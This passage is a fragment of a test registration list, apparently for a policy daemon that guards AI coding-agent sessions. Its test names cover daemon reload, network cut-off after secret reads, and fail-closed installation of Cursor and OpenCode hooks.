          TEST_ENTRY(daemon_status_stop_and_idle_exit),
          TEST_ENTRY(a_daemons_reload_refreshes_the_last_good_policies),
          TEST_ENTRY(a_session_that_read_a_secret_gets_no_network),
          TEST_ENTRY(cursor_fixtures_in_process_and_resident),
          TEST_ENTRY(opencode_fixtures_in_process_and_resident),
          TEST_ENTRY(install_cursor_keeps_its_shape_and_fails_closed),
          TEST_ENTRY(an_installed_cursor_hook_whose_binary_is_gone_blocks),
          TEST_ENTRY(install_opencode_writes_the_plugin))
